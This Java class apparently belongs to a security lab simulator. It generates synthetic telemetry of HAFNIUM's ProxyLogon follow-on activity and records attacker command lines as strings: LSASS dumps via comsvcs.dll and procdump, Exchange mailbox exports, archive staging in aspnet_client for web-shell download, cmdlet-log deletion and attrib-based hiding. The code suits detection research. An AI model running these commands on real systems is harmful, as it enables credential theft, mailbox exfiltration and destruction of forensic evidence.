package io.tidemark.lab;

import java.util.List;

/**
 * What HAFNIUM did once its shell answered: dump LSASS, export mailboxes with the Exchange
 * snap-in, pack the PSTs, download the archive, then remove the export requests and delete the
 * archive and the local cmdlet logs.
 */
final class ProxyLogonLoot {
  private static final String SNAPIN =
      "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn";
  private static final String POWERSHELL =
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

  private final AttackKit kit;
  private final ShellSession shell;
  private final Rand rand;
  private final Org org;

  ProxyLogonLoot(AttackKit kit, ShellSession shell) {
    this.kit = kit;
    this.shell = shell;
    this.rand = kit.rand;
    this.org = kit.org;
  }

  long run(long start) {
    long t = dumpCredentials(start + rand.between(300_000, 1_500_000));
    List<Person> victims = kit.victims(rand.between(2, 4));
    t = exportMailboxes(t + rand.between(600_000, 2_400_000), victims);
    String archive = rand.pick("it", "pst", "data", "out") + (rand.chance(0.6) ? ".7z" : ".zip");
    String staged = "C:\\inetpub\\wwwroot\\aspnet_client\\" + archive;
    t = archive(t + rand.between(120_000, 900_000), staged);
    int exfil = kit.plan.step("exfiltration", t, "The archive of exported mailboxes was "
        + "downloaded from /aspnet_client/" + archive + ".");
    t = shell.download(t + rand.between(60_000, 600_000), "/aspnet_client/" + archive, exfil);
    return cleanUp(t + rand.between(120_000, 900_000), victims, staged);
  }

  private long dumpCredentials(long t) {
    int tag = kit.plan.step("credential-dump", t, "LSASS memory was dumped to disk for offline "
        + "credential theft.");
    if (rand.chance(0.6)) {
      String dump = shell.directory + "\\" + rand.letters(2) + ".dmp";
      String line = "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
          + "MiniDump 636 " + dump + " full";
      Proc cmd = shell.cmd(t, line, tag);
      Proc rundll = kit.run(t + 60, cmd, "C:\\Windows\\System32\\rundll32.exe", line, tag);
      kit.fileCreate(t + rand.between(2000, 9000), rundll, dump, tag);
      shell.post(t + rand.between(10_000, 30_000), tag);
      String cab = "makecab " + dump + " " + dump + ".zip";
      Proc cmd2 = shell.cmd(t + 40_000, cab, tag);
      Proc makecab = kit.run(t + 40_100, cmd2, "C:\\Windows\\System32\\makecab.exe", cab, tag);
      kit.fileCreate(t + 44_000, makecab, dump + ".zip", tag);
      String url = shell.url.substring(0, shell.url.lastIndexOf('/') + 1)
          + dump.substring(dump.lastIndexOf('\\') + 1) + ".zip";
      return shell.download(t + rand.between(60_000, 180_000), url, tag);
    }
    String line = "C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe "
        + "C:\\windows\\temp\\lsass.dmp";
    Proc cmd = shell.cmd(t, line, tag);
    Proc procdump = kit.run(t + 80, cmd, "C:\\ProgramData\\procdump64.exe", line, tag);
    kit.fileCreate(t + rand.between(3000, 9000), procdump, "C:\\Windows\\Temp\\lsass.dmp", tag);
    return shell.post(t + rand.between(10_000, 30_000), tag);
  }

  private long exportMailboxes(long t, List<Person> victims) {
    int tag = kit.plan.step("mailbox-export", t, "The Exchange snap-in exported " + victims.size()
        + " mailboxes to PST files with New-MailboxExportRequest.");
    for (Person victim : victims) {
      String pst = "\\\\" + org.host + "\\C$\\ProgramData\\pst\\" + victim.sam() + ".pst";
      String script = SNAPIN + ";New-MailboxExportRequest -Mailbox " + victim.upn()
          + " -FilePath " + pst;
      Proc cmd = shell.cmd(t, "powershell.exe -command \"" + script + "\"", tag);
      Proc ps = kit.run(t + 90, cmd, POWERSHELL, "powershell.exe -command \"" + script + "\"", tag);
      kit.cmdletEvent(t + rand.between(3000, 9000), "New-MailboxExportRequest", "-Mailbox \""
          + victim.upn() + "\" -FilePath \"" + pst + "\"", WindowsEvents.SYSTEM_USER,
          AttackKit.SYSTEM_SID, "Local-PowerShell-Unknown", ps.pid() + " powershell", tag);
      shell.post(t + rand.between(9000, 20_000), tag);
      long written = t + rand.between(120_000, 600_000);
      Proc mrs = new Proc(AttackKit.MRS, 4188, "9A1C5E4B-0005-0000-5B00-000000000A00",
          "\"" + AttackKit.MRS + "\"", WindowsEvents.SYSTEM_USER, "C:\\Windows\\system32\\");
      kit.fileCreate(written, mrs, "C:\\ProgramData\\pst\\" + victim.sam() + ".pst", tag);
      kit.plan.mailbox(victim, "mailbox", t, written);
      t += rand.between(30_000, 180_000);
    }
    return t + 600_000;
  }

  private long archive(long t, String staged) {
    int tag = kit.plan.step("archive", t, "The PST files were packed into " + staged
        + " for download.");
    String line = staged.endsWith(".7z")
        ? "C:\\ProgramData\\7za.exe a -t7z -mx9 " + staged + " C:\\ProgramData\\pst\\*"
        : "C:\\ProgramData\\7za.exe a -tzip " + staged + " C:\\ProgramData\\pst\\*";
    Proc cmd = shell.cmd(t, line, tag);
    Proc zip = kit.run(t + 70, cmd, "C:\\ProgramData\\7za.exe", line, tag);
    kit.fileCreate(t + rand.between(20_000, 120_000), zip, staged, tag);
    return shell.post(t + rand.between(130_000, 200_000), tag);
  }

  private long cleanUp(long t, List<Person> victims, String staged) {
    int tag = kit.plan.step("cleanup", t, "The export requests were removed, and the archive and "
        + "the local PowerShell cmdlet logs deleted.");
    String script =
        SNAPIN + ";Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false";
    Proc cmd = shell.cmd(t, "powershell.exe -command \"" + script + "\"", tag);
    Proc ps = kit.run(t + 90, cmd, POWERSHELL, "powershell.exe -command \"" + script + "\"", tag);
    long at = t + 4000;
    for (Person victim : victims) {
      kit.cmdletEvent(at, "Remove-MailboxExportRequest", "-Identity \"" + victim.directoryPath()
          + "\\MailboxExport\" -Confirm \"False\"", WindowsEvents.SYSTEM_USER,
          AttackKit.SYSTEM_SID, "Local-PowerShell-Unknown", ps.pid() + " powershell", tag);
      at += rand.between(200, 900);
    }
    at = shell.post(at + 5000, tag);
    String logs = AttackKit.exchangePath("Logging\\CmdletInfra\\LocalPowerShell\\Cmdlet\\");
    String delete = "del /f /q " + staged + " \"" + logs + "*.LOG\"";
    Proc del = shell.cmd(at + 20_000, delete, tag);
    kit.fileDelete(at + 20_200, del, staged, tag);
    for (int i = 0; i < 2; i++) {
      long logHour = t - i * 3_600_000L;
      kit.fileDelete(at + 20_300 + i * 40, del, logs + "LocalPowerShell_Cmdlet_"
          + Text.yyyymmddhh(logHour) + "-1.LOG", tag);
    }
    at = shell.post(at + 21_000, tag);
    if (rand.chance(0.5)) {
      String hide = "attrib +h +s +r " + shell.directory + "\\" + shell.url
          .substring(shell.url.lastIndexOf('/') + 1);
      Proc attrib = shell.cmd(at + 30_000, hide, tag);
      kit.run(at + 30_100, attrib, "C:\\Windows\\System32\\attrib.exe", hide, tag);
      at = shell.post(at + 31_000, tag);
    }
    return at;
  }
}
